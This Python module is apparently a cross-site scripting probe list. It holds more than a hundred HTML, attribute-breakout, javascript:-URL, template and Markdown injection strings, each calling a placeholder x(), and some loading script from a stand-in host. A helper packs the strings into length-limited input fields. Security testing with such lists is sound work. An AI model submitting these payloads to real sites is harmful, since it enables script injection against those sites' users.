"""Short texts that run `x()` wherever a page takes them for more than text.

They are short so that several fit into one field: a field of 60 characters holds two
or three at a time.
"""

ELEMENTS = (
    "<script>x()</script>",
    "<script/src=//x.test>",
    "<svg onload=x()>",
    "<svg/onload=x()>",
    "<svg><script>x()</script>",
    "<svg><animate onbegin=x()>",
    "<svg><set onbegin=x()>",
    "<svg><a href=javascript:x()>a",
    "<math href=javascript:x()>a",
    "<img src=x onerror=x()>",
    "<img/src=x/onerror=x()>",
    "<IMG SRC=x ONERROR=x()>",
    "<image src=x onerror=x()>",
    "<img src=x\tonerror=x()>",
    "<img src=x\nonerror=x()>",
    "<img src=`x`onerror=x()>",
    "<img src=x onerror=x`1`>",
    "<img srcset=x onerror=x()>",
    "<body onload=x()>",
    "<body onpageshow=x()>",
    "<iframe onload=x()>",
    "<iframe src=javascript:x()>",
    "<iframe srcdoc=<svg/onload=x()>>",
    "<frameset onload=x()>",
    "<object data=javascript:x()>",
    "<embed src=javascript:x()>",
    "<video><source onerror=x()>",
    "<video src=x onerror=x()>",
    "<audio src=x onerror=x()>",
    "<track onload=x() default>",
    "<input autofocus onfocus=x()>",
    "<select autofocus onfocus=x()>",
    "<textarea autofocus onfocus=x()>",
    "<button autofocus onfocus=x()>",
    "<a autofocus onfocus=x() href=#>",
    "<b tabindex=1 autofocus onfocus=x()>",
    "<details open ontoggle=x()>",
    "<marquee onstart=x()>",
    "<style onload=x()></style>",
    "<link rel=stylesheet onerror=x() href=x>",
    "<meta http-equiv=refresh content=0;url=javascript:x()>",
    "<base href=javascript:x()//>",
    "<form action=javascript:x()><button>a",
    "<button formaction=javascript:x()>a",
    "<input type=image src=x onerror=x()>",
    "<a href=javascript:x()>a</a>",
    "<a href='java\tscript:x()'>a</a>",
    "<a href='&#106;avascript:x()'>a</a>",
    "<a href=data:text/html,<svg/onload=x()>>a",
    "<template><svg onload=x()></template>",
    "<noscript><svg onload=x()></noscript>",
    "<xmp><svg onload=x()></xmp>",
    "<div style=animation:a onanimationend=x()>",
    "<p onmouseover=x()>a</p>",
    "<custom-x onclick=x()>a",
    "<x/onpointerenter=x()>a",
    "<SVG ONLOAD=x()>",
    "<svg onload='x()'>",
    '<svg onload="x()">',
    "<svg onload=x(1)>",
    "<svg onload=x&#40;)>",
    "<svg\fonload=x()>",
    "<svg\nonload=x()>",
    "<svg onload\n=\nx()>",
    "<svg a='>' onload=x()>",
    "<img src onerror=x()>",
    "<img src=# onerror=x()>",
    "<body onfocus=x()>",
    "<input onfocus=x() autofocus>",
    "<b onclick=x()>a</b>",
)
BREAKOUTS = (
    '"><svg onload=x()>',
    "'><svg onload=x()>",
    '" autofocus onfocus=x() a="',
    "' autofocus onfocus=x() a='",
    '" onerror=x() a="',
    " onfocus=x() autofocus ",
    "`><svg onload=x()>",
    "--><svg onload=x()>",
    "--!><svg onload=x()>",
    "]]><svg onload=x()>",
    "?><svg onload=x()>",
    "%><svg onload=x()>",
    "</title><svg onload=x()>",
    "</textarea><svg onload=x()>",
    "</style><svg onload=x()>",
    "</script><svg onload=x()>",
    "</script><script>x()</script>",
    "<!--<script>x()//-->",
    "</option></select><svg onload=x()>",
    "</td></table><svg onload=x()>",
    "</svg><img src=x onerror=x()>",
    "</a><svg onload=x()>",
    "</noscript><svg onload=x()>",
    "</template><svg onload=x()>",
    '"}</script><svg onload=x()>',
    '";x();//',
    "';x();//",
    "\\';x();//",
    "\\u003csvg onload=x()\\u003e",
    "\u2028x()\u2028",
    "${x()}",
    "{{x()}}",
    "{% x %}{{ 7|x }}",
    "{{constructor.constructor('x()')()}}",
    "<%= x() %>",
    "#{x()}",
)
ADDRESSES = (
    "javascript:x()",
    "JaVaScRiPt:x()",
    "java\tscript:x()",
    " javascript:x()",
    "javascript://%0ax()",
    "vbscript:x()",
    "data:text/html,<svg onload=x()>",
    "//x.test/x.js",
)
MARKDOWN = (
    "[a](javascript:x())",
    "[a](JAVASCRIPT:x())",
    "[a](&#106;avascript:x())",
    "[a](java%0ascript:x())",
    "[a](data:text/html,x)",
    "[a](vbscript:x())",
    '[a](/ "onclick=x()")',
    "![a](javascript:x())",
    '![a](x "onerror=x()")',
    "![x](x)<img src=x onerror=x()>",
    "<javascript:x()>",
    "[a]: javascript:x()",
    "[a][b]\n\n[b]: javascript:x()",
    "`<svg onload=x()>`",
    "    <svg onload=x()>",
    "```\n</code><svg onload=x()>\n```",
    "&lt;svg onload=x()&gt;",
    "&#60;svg onload=x()&#62;",
    "\uff1csvg onload=x()\uff1e",
    "<scr<script>ipt>x()</script>",
    "<<svg onload=x()>>",
    "<svg onload=x()//",
    "<svg onload=x() a=",
    'https://a.test/"onclick=x()//',
    "https://a.test/'><svg/onload=x()>",
)
PAYLOADS = (*ELEMENTS, *BREAKOUTS, *ADDRESSES, *MARKDOWN)


# A field in which little fits takes the short ones alone, still more than a hundred.
SHORT = tuple(one for one in PAYLOADS if len(one) <= 28)
LITTLE = 120


def chain(length, start, rounds):
    """Return what a field of `length` holds round by round, and which payloads."""
    pool = PAYLOADS if length >= LITTLE else SHORT
    texts, place, held = [], start, set()
    for _ in range(rounds):
        text, first = "", place
        while place - first < len(pool):
            more = pool[place % len(pool)]
            if len(text) + len(more) >= length:
                break
            text, place = f"{text}{more} ", place + 1
            held.add(more)
        texts.append(text)
    return texts, held
